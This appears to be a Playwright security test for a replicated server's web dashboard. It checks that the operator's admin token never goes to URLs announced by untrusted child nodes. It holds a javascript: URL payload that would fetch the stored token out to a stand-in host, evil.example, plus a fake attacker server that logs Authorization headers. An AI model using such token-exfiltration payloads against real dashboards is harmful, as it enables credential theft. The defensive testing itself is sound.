/**
 * Where the dashboard sends the operator's token, in a real headless Chromium against `mercury serve --auth required`.
 *
 * The page walks the tree through the HTTP URLs children announce in their replication HELLO, and any process with a
 * `replicate` token can be a child. Found by review: the page sent the operator's token (an admin token, typically)
 * to every such URL, so a replicate-only credential became admin. Now the token goes to the page's own origin and to
 * the origins the operator typed under "also send it to"; other nodes are polled without it and show "needs a token".
 * Also found by review: with auth required, the CORS preflight of /v1/status was refused 401, so the page could show
 * no other node at all.
 */
import assert from 'node:assert/strict';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import net from 'node:net';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { chromium, type Browser, type Page } from 'playwright-core';
import { PROTOCOL_VERSION, encodeMessage } from '../src/replication/index.js';
import { request, requestJson } from './support/http.js';
import { startFakeServer, type FakeServer } from './support/net.js';
import { makeTempDir, removeDir, startServe, stopProcess, type ServeProcess } from './support/process.js';
import { eventually, type StatusJson } from './support/tree.js';

const CHROMIUM_PATH = process.env.MERCURY_CHROMIUM ?? '/usr/bin/chromium';
/** Generous: two node processes and a browser share two cores with the rest of the suite. */
const PAGE_TIMEOUT_MS = 30_000;
const ACK_INTERVAL_MS = 1_000;

/** A child that says HELLO with a `replicate` token and the given httpUrl, then acknowledges to keep its slot. */
function fakeChild(replication: string, nodeId: string, httpUrl: string, credential: string): net.Socket {
  const colon = replication.lastIndexOf(':');
  const socket = net.connect(Number(replication.slice(colon + 1)), replication.slice(0, colon));
  let receivedBytes = 0;
  const hello = { type: 'hello', protocolVersion: PROTOCOL_VERSION, resync: false, datasetId: '', nodeId, path: [], head: { seq: 0, hash: Buffer.alloc(32) }, httpUrl, credential } as const;
  socket.on('connect', () => socket.write(encodeMessage(hello)));
  socket.on('data', (chunk: Buffer) => (receivedBytes += chunk.length));
  socket.on('error', () => {});
  const acks = setInterval(() => socket.write(encodeMessage({ type: 'ack', appliedSeq: 0, receivedBytes })), ACK_INTERVAL_MS);
  socket.on('close', () => clearInterval(acks));
  return socket;
}

function nodeItem(page: Page, url: string): ReturnType<Page['locator']> {
  return page.locator(`li[data-url="${url}"]`);
}

describe('ui token', { skip: existsSync(CHROMIUM_PATH) ? false : `${CHROMIUM_PATH} is not installed (.ci/run installs Debian's chromium)` }, () => {
  const dir = makeTempDir('ui-token');
  let root: ServeProcess;
  let replica: ServeProcess;
  let admin: string;
  let attacker: FakeServer;
  /** The Authorization header of every request the attacker's server received ('' when none). */
  const attackerSaw: string[] = [];
  const children: net.Socket[] = [];
  let browser: Browser | undefined;
  const bearer = (token: string): Record<string, string> => ({ authorization: `Bearer ${token}` });
  const statusOf = (node: ServeProcess): Promise<StatusJson> => requestJson<StatusJson>(node.url, 'GET', '/v1/status', { headers: bearer(admin) });

  before(async () => {
    root = await startServe(join(dir, 'root'), ['--auth', 'required']);
    admin = readFileSync(join(dir, 'root', 'admin-token'), 'utf8').trim();
    const created = (scopes: string[]): Promise<{ token: string }> =>
      requestJson(root.url, 'POST', '/v1/auth/tokens', { headers: { ...bearer(admin), 'content-type': 'application/json' }, body: JSON.stringify({ name: 'edge', scopes }) });
    const replicate = (await created(['replicate'])).token;
    writeFileSync(join(dir, 'replicate-token'), replicate);
    replica = await startServe(join(dir, 'replica'), ['--auth', 'required', '--upstream', root.replication, '--replication-token-file', join(dir, 'replicate-token')]);
    await eventually(
      async () => (await statusOf(replica)).replication.phase === 'streaming',
      async () => JSON.stringify((await statusOf(replica)).replication),
      PAGE_TIMEOUT_MS,
    );
    // The attacker's server answers as a node that wants a token would, readable from any origin.
    attacker = await startFakeServer((req, res) => {
      attackerSaw.push(req.headers.authorization ?? '');
      const cors = { 'access-control-allow-origin': '*', 'access-control-allow-headers': 'authorization' };
      if (req.method === 'OPTIONS') return void res.writeHead(204, cors).end();
      res.writeHead(401, { ...cors, 'content-type': 'application/json' }).end(JSON.stringify({ error: { code: 'UNAUTHENTICATED', message: 'send your token' } }));
    });
    children.push(fakeChild(root.replication, 'evil-child', attacker.url, replicate));
    children.push(fakeChild(root.replication, 'script-child', 'javascript:fetch("//evil.example/"+sessionStorage.getItem("mercury.token"))', replicate));
    // Root runs without a user namespace sandbox: Chromium refuses to start its sandbox as root.
    browser = await chromium.launch({ executablePath: CHROMIUM_PATH, args: process.getuid?.() === 0 ? ['--no-sandbox'] : [] });
  });

  after(async () => {
    for (const child of children) child.destroy();
    await browser?.close();
    await attacker?.close();
    await Promise.all([root, replica].filter((node) => node !== undefined).map((node) => stopProcess(node.child)));
    removeDir(dir);
  });

  test('ui token: the root shows a child\'s announced httpUrl only when it is an http(s) URL', async () => {
    await eventually(
      async () => (await statusOf(root)).replication.children.length === 3,
      async () => JSON.stringify((await statusOf(root)).replication.children),
      PAGE_TIMEOUT_MS,
    );
    const children = (await statusOf(root)).replication.children as unknown as { nodeId: string; httpUrl: string | null }[];
    const urlOf = (nodeId: string): string | null | undefined => children.find((child) => child.nodeId === nodeId)?.httpUrl;
    assert.equal(urlOf('evil-child'), attacker.url);
    assert.equal(urlOf('script-child'), null, 'a javascript: URL is dropped, as if the child had announced none');
    assert.equal(urlOf((await statusOf(replica)).nodeId), replica.url);
  });

  test('ui token: the page never sends the token to a URL a child announced; other nodes get it only once the operator lists their origin', async () => {
    const page = await browser!.newPage();
    page.setDefaultTimeout(PAGE_TIMEOUT_MS);
    await page.goto(`${root.url}/ui/`);
    await page.fill('#token', admin);
    const seenBefore = attackerSaw.length;
    await page.press('#token', 'Enter');

    // The page keeps polling the attacker's URL, without the token, and shows it as a node that wants one.
    await eventually(
      () => Promise.resolve(attackerSaw.length >= seenBefore + 2),
      () => `the attacker's server received ${attackerSaw.length - seenBefore} requests since the token was entered`,
      PAGE_TIMEOUT_MS,
    );
    assert.deepEqual(
      attackerSaw.filter((authorization) => authorization !== ''),
      [],
      'the attacker never received an Authorization header',
    );
    await nodeItem(page, root.url).locator(':scope[data-state="ok"]').waitFor();
    const evil = nodeItem(page, attacker.url);
    await evil.locator(':scope[data-state="needs-token"]').waitFor();
    assert.match((await evil.locator('.detail').textContent()) ?? '', new RegExp(`needs a token.*add ${attacker.url} there if you trust that node`));
    // The real replica is another origin too (another port): the same until the operator lists it.
    await nodeItem(page, replica.url).locator(':scope[data-state="needs-token"]').waitFor();
    await page.locator('li[data-node-id="script-child"][data-state="unreachable"]').waitFor();
    assert.equal(await page.locator('a[href^="javascript:"]').count(), 0);

    // Listed (with a path and a typo among the words typed), the replica is polled with the token, across origins:
    // its CORS preflight is answered although it carries no token.
    await page.fill('#token-origins', `${replica.url}/ui/ not-a-url`);
    await page.press('#token-origins', 'Enter');
    await nodeItem(page, replica.url).locator(':scope[data-state="ok"]').waitFor();
    assert.equal(await page.inputValue('#token-origins'), replica.url, 'the field shows the origins kept');
    await page.waitForFunction(`document.querySelector('#summary').textContent.includes('1 need a token')`);

    assert.deepEqual(
      attackerSaw.filter((authorization) => authorization !== ''),
      [],
      'the attacker never received an Authorization header',
    );
    await page.close();
  });

  // Found by an audit (2026-12-06): one child's status with "snapshot": {} blanked the whole tree, and a child listing
  // hundreds of new node ids (without URLs) each round grew the page without bound.
  test('ui token: a child answering a malformed status, or listing new node ids every round, never blanks or floods the tree', async () => {
    let round = 0;
    const replicaId = (await statusOf(replica)).nodeId;
    const odd: FakeServer = await startFakeServer((req, res) => {
      const cors = { 'access-control-allow-origin': '*', 'access-control-allow-headers': 'authorization' };
      if (req.method === 'OPTIONS') return void res.writeHead(204, cors).end();
      round++;
      const children: { nodeId: string; httpUrl: string | null }[] = Array.from({ length: 300 }, (_, i) => ({ nodeId: `ghost-${round}-${i}`, httpUrl: null }));
      // And the real replica's id, at this server's URL: its card stays the replica's, and says it was listed twice.
      children.push({ nodeId: replicaId, httpUrl: odd.url });
      const status = { nodeId: 'odd-child', role: 'replica', seq: 'many', replication: { phase: 'snapshot', snapshot: {}, children } };
      res.writeHead(200, { ...cors, 'content-type': 'application/json' }).end(JSON.stringify(status));
    });
    const child = fakeChild(root.replication, 'odd-child', odd.url, readFileSync(join(dir, 'replicate-token'), 'utf8'));
    try {
      const page = await browser!.newPage();
      page.setDefaultTimeout(PAGE_TIMEOUT_MS);
      await page.goto(`${root.url}/ui/`);
      await page.fill('#token', admin);
      await page.press('#token', 'Enter');
      await page.locator('li[data-node-id="odd-child"] > .card > .detail').waitFor();
      assert.match((await page.locator('li[data-node-id="odd-child"] > .card > .detail').textContent()) ?? '', /malformed status/);
      await nodeItem(page, root.url).locator(':scope[data-state="ok"]').waitFor();
      await eventually(
        () => Promise.resolve(round >= 4),
        () => `the odd child was polled ${round} times`,
        PAGE_TIMEOUT_MS,
      );
      const listedTwice = page.locator(`li[data-node-id="${replicaId}"] > .card`);
      await listedTwice.locator('[data-badge="listed-twice"]').waitFor();
      assert.match((await listedTwice.locator('.detail').textContent()) ?? '', /also listed as a child of odd-child/);
      assert.equal(await page.locator(`li[data-node-id="${replicaId}"]`).getAttribute('data-url'), replica.url, 'the card stays the real replica\'s');
      const cards = await page.locator('li[data-node-id]').count();
      assert.ok(cards <= 500 + 10, `${cards} nodes on the page after ${round} rounds of 300 new ids`);
      await page.close();
    } finally {
      child.destroy();
      await odd.close();
    }
  });

  test('ui token: with --auth required, the CORS preflight of /v1/status needs no credential, and its 401 is readable from other origins', async () => {
    const preflightHeaders = { origin: 'http://127.0.0.1:1', 'access-control-request-method': 'GET', 'access-control-request-headers': 'authorization' };
    const preflight = await request(root.url, 'OPTIONS', '/v1/status', { headers: preflightHeaders });
    assert.equal(preflight.status, 204);
    assert.equal(preflight.headers['access-control-allow-origin'], '*');
    assert.match(String(preflight.headers['access-control-allow-headers']), /authorization/);
    assert.match(String(preflight.headers['access-control-allow-methods']), /GET/);

    const refused = await request(root.url, 'GET', '/v1/status', { headers: { origin: 'http://127.0.0.1:1' } });
    assert.equal(refused.status, 401);
    assert.equal(refused.headers['access-control-allow-origin'], '*', 'the page can tell "needs a token" from "down"');
    const answered = await request(root.url, 'GET', '/v1/status', { headers: { origin: 'http://127.0.0.1:1', ...bearer(admin) } });
    assert.equal(answered.status, 200);
    assert.equal(answered.headers['access-control-allow-origin'], '*');

    // Only routes other origins may read answer a preflight: elsewhere OPTIONS still needs a credential, and carries no CORS header.
    const kv = await request(root.url, 'OPTIONS', '/v1/kv/app', { headers: preflightHeaders });
    assert.equal(kv.status, 401);
    assert.equal(kv.headers['access-control-allow-origin'], undefined);
    // The Host check still comes first (DNS rebinding).
    const rebound = await request(root.url, 'OPTIONS', '/v1/status', { headers: { ...preflightHeaders, host: 'evil.example' } });
    assert.equal(rebound.status, 403);
    // A body (no browser sends one with a preflight) is dropped, and the connection closed when it is not all there.
    const withBody = await request(root.url, 'OPTIONS', '/v1/status', { headers: { ...preflightHeaders, 'content-length': 1 << 30 }, body: 'x' });
    assert.equal(withBody.status, 204);
    assert.equal(withBody.headers.connection, 'close');
  });
});
